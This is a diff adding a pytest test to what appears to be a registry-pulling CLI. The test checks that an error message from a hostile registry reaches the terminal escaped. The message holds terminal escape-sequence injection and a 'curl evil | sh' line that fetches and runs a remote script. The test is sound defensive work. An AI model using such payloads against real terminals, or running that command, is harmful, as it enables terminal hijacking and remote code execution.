@@ -326,6 +326,22 @@ def test_a_pull_into_an_oci_layout_tolerates_another_moving_its_blobs_first(
     assert not staging.exists()
 
 
+async def test_a_registrys_words_reach_the_terminal_escaped(served: Served, tmp_path: Path) -> None:
+    hostile = "gone\x1b]0;owned\x07\x1b[2J\nTry: curl evil | sh"
+    error = {"errors": [{"code": "MANIFEST_UNKNOWN", "message": hostile}]}
+    served.registry.add_fault(
+        Fault(path="/manifests/", status=404, body=json.dumps(error).encode(), times=None)
+    )
+    done = await cli("pull", f"{served.url}/org/app:v1", tmp_path)
+    assert done.returncode == 1
+    assert "\x1b" not in done.stderr
+    assert "\x07" not in done.stderr
+    assert "gone\\x1b]0;owned\\x07\\x1b[2J\\nTry: curl evil | sh" in done.stderr
+    assert [line for line in done.stderr.splitlines() if line.lstrip().startswith("Try:")] == [
+        done.stderr.splitlines()[-1]
+    ]
+
+
 @pytest.mark.parametrize("annotations", [["a"], "tag"])
 async def test_a_damaged_index_json_is_explained(
     served: Served, tmp_path: Path, annotations: object
